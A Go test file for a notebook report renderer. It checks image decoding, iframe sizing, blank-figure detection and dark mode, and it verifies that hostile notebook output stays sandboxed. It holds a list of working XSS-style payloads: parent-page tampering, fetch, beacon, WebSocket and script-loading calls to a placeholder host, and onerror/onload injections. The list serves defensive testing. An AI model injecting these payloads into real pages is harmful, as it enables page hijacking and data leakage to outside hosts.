package report_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/ds-sandbox/ds-sandbox/notebook"
	"github.com/ds-sandbox/ds-sandbox/report"
	"github.com/ds-sandbox/ds-sandbox/report/reporttest"
)

const drawing = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"><rect width="40" height="20" fill="teal"/></svg>`

func TestBrowserDecodesEveryImage(t *testing.T) {
	found := reporttest.Load(t, []byte(page(t, shows(
		displays("image/png", dot), displays("image/svg+xml", drawing), displays("text/html", "<table><tr><td>1</td></tr></table>"),
		displays("image/png", dot, "text/html", "<div id=d></div><script>d.textContent = 'drawn'</script>"),
		displays("text/plain", "a broken one", "image/jpeg", dot[:40]),
	), &report.Options{Title: "Pictures"})))
	require.Equal(t, "Pictures", found.Title)
	require.Equal(t, 4, found.Images)
	require.Equal(t, []string{"a broken one"}, found.Broken)
	require.Equal(t, 2, found.Frames)
	require.Empty(t, found.Silent, "frames tell their height")
	require.Contains(t, found.Text, "x = 1 # <b>")
	require.Empty(t, found.Requests)
}

// attacks are pieces of HTML that reach for the page or the network.
var attacks = []string{
	`parent.document.title = 'taken'`,
	`top.document.body.dataset.mark = 'top'`,
	`parent.document.body.dataset.mark = 'parent'`,
	`parent.postMessage({height: '1px;background:url({{HOST}}/message)'}, '*'); parent.postMessage(null, '*'); parent.postMessage({height: 1e99}, '*')`,
	`fetch('{{HOST}}/fetch'); new Image().src = '{{HOST}}/image'; navigator.sendBeacon('{{HOST}}/beacon')`,
	`const s = document.createElement('script'); s.nonce = document.currentScript.nonce; s.src = '{{HOST}}/script'; document.body.append(s)`,
	`import('{{HOST}}/module')`,
	`location = '{{HOST}}/location'`,
	`top.location = '{{HOST}}/top'`,
	`open('{{HOST}}/window')`,
	`document.body.innerHTML = '<iframe src="{{HOST}}/frame"></iframe><link rel=stylesheet href="{{HOST}}/style"><object data="{{HOST}}/object"></object>'`,
	`const f = document.createElement('form'); f.action = '{{HOST}}/form'; document.body.append(f); f.submit()`,
	`localStorage.x = 1`, `document.cookie = 'a=b'`,
	`new WebSocket('{{HOST}}/socket'.replace('http', 'ws'))`,
	`new EventSource('{{HOST}}/events')`,
}

func TestHostileContentReachesNeitherPageNorNetwork(t *testing.T) {
	var outputs []*notebook.Output
	for _, attack := range attacks {
		outputs = append(outputs, displays("text/html", "<script>"+attack+"</script>"))
	}
	mark := `<img src=x onerror="document.body.dataset.mark='x'"><script>document.body.dataset.mark='x'</script>`
	outputs = append(outputs,
		displays("text/html", `<meta http-equiv=refresh content="0;url={{HOST}}/refresh"><img src="{{HOST}}/img"><style>@import url({{HOST}}/import)</style>`),
		displays("text/html", `</iframe>`+mark), displays("text/markdown", mark+"\n\n![x]({{HOST}}/markdown.png)"),
		displays("image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" onload="top.document.body.dataset.mark='svg'"><image href="{{HOST}}/svg.png"/></svg>`),
		&notebook.Output{Type: notebook.Stream, Name: "stdout", Text: mark},
	)
	nb := shows(outputs...)
	nb.AddCell(notebook.Markdown, mark)
	found := reporttest.Load(t, []byte(page(t, nb, &report.Options{Title: "Ours"})))
	require.Equal(t, "Ours", found.Title)
	require.Empty(t, found.Marks)
	require.Empty(t, found.Requests)
}

func TestBrowserWouldTellOfHostileContent(t *testing.T) {
	found := reporttest.Load(t, []byte(`<title>x</title><img src="{{HOST}}/img"><script>parent.document.body.dataset.mark = 'parent'</script>`))
	require.Equal(t, []string{"/img"}, found.Requests)
	require.Equal(t, []string{"parent"}, found.Marks)
	require.Len(t, found.Broken, 1)
}

func TestFiguresGetTheirLibraryInEachFrame(t *testing.T) {
	library := "window.draw = (n) => { document.body.append('figure ' + n); };//" + strings.Repeat("x", 100_000)
	found := reporttest.Load(t, []byte(page(t, shows(
		displays("text/html", "<script>"+library+"</script><script>draw(1)</script>"),
		displays("text/html", "<script>draw(2); document.body.append(Object.assign(document.createElement('div'), {style: 'height:777px'}))</script>"),
	), nil)))
	require.Equal(t, 2, found.Frames)
	require.Empty(t, found.Silent)
	require.GreaterOrEqual(t, found.Tallest, 777, "the second frame's script ran with the first one's library")
}

func TestBrowserTellsBlankFigures(t *testing.T) {
	const draw = "<p id='figure'></p><script>document.getElementById('figure').innerHTML = '<svg width=99><circle r=9 /><text>1</text></svg>'</script>"
	const inShadow = "<p id='figure'></p><script>const c = document.createElement('canvas'), x = c.getContext('2d');" +
		"x.fillStyle = 'red'; x.fillRect(0, 0, 9, 9); x.fillStyle = 'blue'; x.fillRect(9, 9, 9, 9);" +
		"document.getElementById('figure').attachShadow({mode: 'open'}).append(c)</script>"
	found := reporttest.Look(t, []byte(page(t, shows(displays("text/html", draw), displays("text/html", inShadow), displays("text/html", "<b>a table</b>")), nil)))
	require.Empty(t, found.Blank)
	found = reporttest.Look(t, []byte(page(t, shows(displays("text/html", draw+"<script>document.body.innerHTML = ''</script>")), nil)))
	require.Len(t, found.Blank, 1)
}

func TestPagesAreDarkForWhoeverIsDark(t *testing.T) {
	text := []byte(page(t, shows(displays("text/plain", "x")), nil))
	require.Equal(t, "rgb(255, 255, 255)", reporttest.Load(t, text).Paper)
	require.Equal(t, "rgb(22, 25, 31)", reporttest.Dark(t, text).Paper)
}
